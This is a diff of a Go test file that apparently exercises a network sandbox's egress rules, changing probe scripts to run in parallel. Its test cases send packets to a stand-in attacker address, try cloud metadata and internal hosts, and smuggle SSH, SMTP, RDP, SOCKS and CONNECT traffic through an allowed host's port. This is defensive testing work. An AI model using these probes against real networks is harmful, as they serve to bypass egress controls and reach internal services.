@@ -12,13 +12,13 @@ func allowing(rules ...string) (flags []string) {
 	return flags
 }
 
-// each repeats a line of a script for every word, which it knows as $X.
+// each does a line of a script for every word, which it knows as $X, all at the same time.
 func each(line string, words ...string) string {
 	var b strings.Builder
 	for _, word := range words {
-		b.WriteString("X='" + word + "'; " + line + "\n")
+		b.WriteString("(X='" + word + "'; " + line + ") &\n")
 	}
-	return b.String()
+	return b.String() + "wait\n"
 }
 
 // Patterns of what the world may not see.
@@ -39,8 +39,7 @@ func networkCases() []attack {
 }
 
 // roads is every kind of packet to the attacker.
-const roads = `for p in 80 443 22 8443; do $PROBE send tcp $E:$p hello; $PROBE send tcp [2a06:6666::66]:$p hello; done
-for p in 53 67 123 443 1900 5353; do $PROBE send udp $E:$p hello; $PROBE send udp [2a06:6666::66]:$p hello; done
+const roads = `for a in $E [2a06:6666::66]; do for p in 80 443 22 8443; do $PROBE send tcp $a:$p hello & done; for p in 53 67 123 443 1900 5353; do $PROBE send udp $a:$p hello & done; done; wait
 $GET http://$E/; $GET --connect-to ::$E:443 https://api.allowed.test/; $GET --interface lo http://$E/
 true`
 
@@ -113,8 +112,8 @@ func addressAttacks() []netAttack {
 				"100.100.100.200", "127.0.0.1", "localhost", "10.0.0.1", "192.168.1.1", "172.16.0.1", "45.90.28.2", "host.docker.internal", "host.bailey.internal", "v4-169-254-169-254.in.test"),
 			works: "$GET http://66.66.66.66/ | grep WORLD && echo WORKS"},
 		{id: "other-ports-and-protocols-of-an-allowed-host", flags: allowing("api.allowed.test:443"), won: `^packet tcp|^raw`,
-			script: `for p in 22 25 80 853 3389 5432 8443; do $PROBE send tcp api.allowed.test:$p hello; done
-for t in 'SSH-2.0-x\r\n' 'EHLO evil\r\n' '\x03\x00\x00\x13\x0e\xe0' '\x01\x00\x00\x00wireguard' '\x00\x00\x00\x08\x04\xd2\x16\x2f' 'CONNECT api.allowed.test:22 HTTP/1.1\r\nHost: api.allowed.test:22\r\n\r\n' '\x05\x01\x00' '\x16\x03\x01\x00\x05hello'; do $PROBE send tcp api.allowed.test:443 "$t"; done`,
+			script: `for p in 22 25 80 853 3389 5432 8443; do $PROBE send tcp api.allowed.test:$p hello & done
+for t in 'SSH-2.0-x\r\n' 'EHLO evil\r\n' '\x03\x00\x00\x13\x0e\xe0' '\x01\x00\x00\x00wireguard' '\x00\x00\x00\x08\x04\xd2\x16\x2f' 'CONNECT api.allowed.test:22 HTTP/1.1\r\nHost: api.allowed.test:22\r\n\r\n' '\x05\x01\x00' '\x16\x03\x01\x00\x05hello'; do $PROBE send tcp api.allowed.test:443 "$t" & done; wait`,
 			works: "$GET https://api.allowed.test/ | grep WORLD && echo WORKS"},
 	}
 }
